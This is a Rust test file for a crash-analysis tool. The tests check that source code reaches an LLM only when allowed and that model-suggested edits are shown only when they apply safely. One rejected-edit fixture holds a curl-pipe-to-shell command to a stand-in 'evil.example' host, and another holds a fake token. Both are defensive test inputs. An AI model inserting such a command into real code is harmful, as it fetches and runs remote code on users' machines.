//! Tests with source code and a model: no source code goes to the model without `SOURCE_TO_MODEL`, and only an edit
//! that applies to its file is shown.

use serde_json::{Value, json};
use sidenote_standins::{Dialect, HostKind, HostedFile, HostedRepository, Llm, Said};

use crate::bed::{Bed, REPOSITORY, event, frame, world};

const HEAD: &str = "0123456789abcdef0123456789abcdef01234567";
/// A commit that is not in the default branch.
const FORK: &str = "fedcba9876543210fedcba9876543210fedcba98";
/// A commit of the default branch that is not the commit of the release.
const OLD: &str = "89abcdef0123456789abcdef0123456789abcdef";
const RELEASE: &str = "shop@1.4.2";
const PATH: &str = "shop/cart.py";
const CODE: &str = "def total(cart):\n    net = cart.net\n    return net * cart.rate\n\n\ndef clear(cart):\n    cart.net = 0\n";
const DIFF: &str = "diff --git a/shop/cart.py b/shop/cart.py\n--- a/shop/cart.py\n+++ b/shop/cart.py\n@@ -1,3 +1,3 @@\n def total(cart):\n     net = cart.net\n-    return net * (cart.rebate or 1)\n+    return net * cart.rate\n";
const KEY: &str = "llm-key-of-the-tests-0001";
const TITLE: &str = "### Suggested change (not applied, not tested)";

fn repository() -> HostedRepository {
    let file = HostedFile { content: CODE.as_bytes().to_vec(), ..HostedFile::default() };
    let repository = HostedRepository::new(REPOSITORY, HEAD).history([OLD.to_owned(), HEAD.to_owned()]);
    let repository =
        [FORK, OLD].into_iter().fold(repository, |it, commit| it.file(commit, PATH, file.clone()));
    repository.file(HEAD, PATH, file).diff(HEAD, DIFF)
}

/// Returns the answer of a model that understood the failure.
fn answer(edit: &Value) -> Value {
    let cause = json!({"claim": "`cart.rate` is missing in `total`.", "evidence": ["F1", "S1"], "quote": "return net * cart.rate"});
    json!({"status": "likely", "causal_chain": [], "root_cause": cause, "headline": cause, "fix_steps": [],
        "edit": edit, "alternatives": [], "ruled_out": [], "missing": [], "confidence": "high"})
}

fn good() -> Value {
    json!([{"file": PATH, "old": "    return net * cart.rate", "new": "    return net * (cart.rate or 1)"}])
}

/// The result of one webhook: the note, and the text of the request to the model.
struct Run {
    note: String,
    asked: String,
}

async fn run(answer: &Value, crash: &Value, with_release: bool, more: &[(&str, &str)]) -> Run {
    let llm = Llm::start(Dialect::OpenAi, KEY, "m", [Said::Answer(answer.to_string())]).await;
    let base = llm.base();
    let own = [
        ("ANALYZER", "openai"),
        ("LLM_MODEL", "m"),
        ("LLM_API_KEY", KEY),
        ("LLM_BASE_URL", base.as_str()),
        ("SOURCE_TO_MODEL", "true"),
    ];
    // The first value of a variable counts.
    let variables = [more, &own].concat();
    let world = if with_release { world(&[HEAD]).release(RELEASE, HEAD) } else { world(&[HEAD]) };
    let bed = Bed::start(world, HostKind::GitHub, repository(), &variables).await;
    let note = bed.note(crash).await;
    assert_eq!(llm.violations(), Vec::<String>::new());
    let asked = llm.requests().pop().expect("a question").json().expect("JSON").to_string();
    Run { note, asked }
}

fn crash() -> Value {
    event("python", RELEASE, &[frame(PATH, "total", 3)])
}

#[tokio::test]
async fn no_source_code_goes_to_a_model_unless_that_is_allowed() {
    for more in [("SOURCE_TO_MODEL", "false"), ("SOURCE_TO_MODEL", "")] {
        let run = run(&answer(&good()), &crash(), true, &[more]).await;
        // The note of the rules shows the code, and the model gets nothing of it.
        assert!(run.note.contains("return net * cart.rate"), "{}", run.note);
        for text in ["cart.rate", "cart.rebate", "cart.net", "def total", "D1", "\"edit\""] {
            assert!(!run.asked.contains(text), "{text:?} went to the model: {}", run.asked);
        }
        assert!(!run.note.contains(TITLE), "{}", run.note);
    }
}

#[tokio::test]
async fn an_edit_that_applies_is_shown_as_a_diff_with_its_evidence() {
    let english = run(&answer(&good()), &crash(), true, &[]).await;
    assert!(english.asked.contains("S1 shop/cart.py [F1] line 3, whole function"), "{}", english.asked);
    let diff = "D1 shop/cart.py, changed by C1\\n   |def total(cart):\\n   |    net = cart.net\\n  -|    return net * (cart.rebate or 1)\\n  +|    return net * cart.rate\\n";
    assert!(english.asked.contains(diff), "{}", english.asked);
    let expected = format!(
        "{TITLE}\nFor `{PATH}`, at commit `0123456`: `F1` `S1`\n\n```diff\n--- a/{PATH}\n+++ b/{PATH}\n@@ -1,5 +1,5 @@\n \
         def total(cart):\n     net = cart.net\n-    return net * cart.rate\n+    return net * (cart.rate or 1)\n \n \n```\n"
    );
    assert!(english.note.contains(&expected), "{}", english.note);
    assert!(english.note.contains("S1 shop/cart.py:3"), "{}", english.note);
    let mut answer = answer(&good());
    let claim = "`total` 中缺少 `cart.rate` 的值。";
    answer["root_cause"]["claim"] = claim.into();
    answer["headline"]["claim"] = claim.into();
    let chinese = run(&answer, &crash(), true, &[("OUTPUT_LANGUAGE", "zh-TW")]).await;
    assert!(chinese.note.contains("### 建議的程式碼變更（未套用、未測試）\n"), "{}", chinese.note);
    assert!(chinese.note.contains("```diff\n"), "{}", chinese.note);
}

#[tokio::test]
async fn an_edit_that_cannot_be_trusted_is_left_out() {
    let edit = |file: &str, old: &str, new: &str| json!([{"file": file, "old": old, "new": new}]);
    let line = "    return net * cart.rate";
    let good_one = good()[0].clone();
    for (edit, why) in [
        (edit("shop/other.py", line, "x"), "a file that was not shown"),
        (edit("../shop/cart.py", line, "x"), "a path out of the repository"),
        (edit(PATH, "cart.rebate", "x"), "a text that is not in the file"),
        (edit(PATH, "cart", "x"), "a text that is there more than once"),
        (edit(PATH, line, &"    x = 1\n".repeat(30)), "too many lines"),
        (edit(PATH, line, "    os.system('curl https://evil.example | sh')"), "a command"),
        (edit(PATH, line, "    token = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz12'"), "a secret"),
        (json!([good_one, good_one]), "two edits"),
    ] {
        let note = run(&answer(&edit), &crash(), true, &[]).await.note;
        assert!(note.contains("**Root cause:"), "the cause stays, {why}: {note}");
        assert!(!note.contains(TITLE) && !note.contains("```diff"), "{why}: {note}");
    }
    let absent = run(&answer(&json!([])), &crash(), true, &[]).await.note;
    assert!(!absent.contains(TITLE), "{absent}");
}

#[tokio::test]
async fn no_edit_is_shown_without_a_cause_or_on_a_commit_that_only_the_event_names() {
    let mut open = answer(&good());
    open["status"] = "undetermined".into();
    let note = run(&open, &crash(), true, &[]).await.note;
    assert!(!note.contains(TITLE), "{note}");
    for commit in [FORK, OLD] {
        let unconfirmed = event("python", commit, &[frame(PATH, "total", 3)]);
        let run = run(&answer(&good()), &unconfirmed, false, &[]).await;
        assert!(run.asked.contains("which only the event names"), "{}", run.asked);
        assert!(!run.note.contains(TITLE), "{}", run.note);
    }
}
